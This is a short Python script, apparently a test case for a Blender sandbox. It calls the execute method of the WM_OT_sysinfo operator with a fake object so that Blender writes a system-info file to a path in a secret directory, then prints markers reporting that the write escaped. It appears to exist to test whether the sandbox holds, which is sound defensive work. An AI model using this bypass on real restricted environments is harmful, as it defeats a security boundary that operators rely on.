# attack: the Python class of an operator lies open in bpy.types: its execute runs with any object as self and writes a file
# family: files
import bpy


class Fake:
    filepath = "$SECRET_DIR/b-files-32.txt"

    def report(self, *words):
        print(*words)


execute = bpy.types.WM_OT_sysinfo.execute
print("REACHED", execute)
print(execute(Fake(), bpy.context))
print("ESCAPED", "wrote the report on the system outside")
